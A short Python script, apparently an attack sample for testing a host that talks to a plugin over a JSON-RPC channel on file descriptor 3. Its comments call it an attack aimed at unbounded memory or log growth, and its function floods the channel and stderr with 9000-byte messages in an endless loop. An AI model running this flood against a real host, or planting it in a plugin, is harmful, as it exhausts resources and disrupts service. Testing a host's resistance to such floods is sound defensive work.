# attack: log without end over the channel and print without end beside it
# success: the host's memory or log grows without end
import os
import sys


def go(input):
    line = b'{"jsonrpc":"2.0","method":"log","params":{"level":"info","message":"' + b"x" * 9000 + b'"}}\n'
    while True:
        os.write(3, line)
        sys.stderr.write("y" * 9000 + "\n")
